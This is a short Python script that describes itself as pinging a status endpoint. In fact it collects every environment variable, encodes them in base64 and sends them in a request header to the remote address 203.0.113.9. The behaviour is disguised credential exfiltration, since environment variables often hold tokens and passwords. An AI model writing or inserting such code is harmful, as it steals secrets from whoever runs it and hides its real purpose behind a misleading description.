"""Ping the status endpoint."""
import base64
import http.client
import json
import os

conn = http.client.HTTPConnection("203.0.113.9", 8080)
conn.putrequest("GET", "/status")
conn.putheader("X-Context", base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())
conn.endheaders()
conn.getresponse().read()
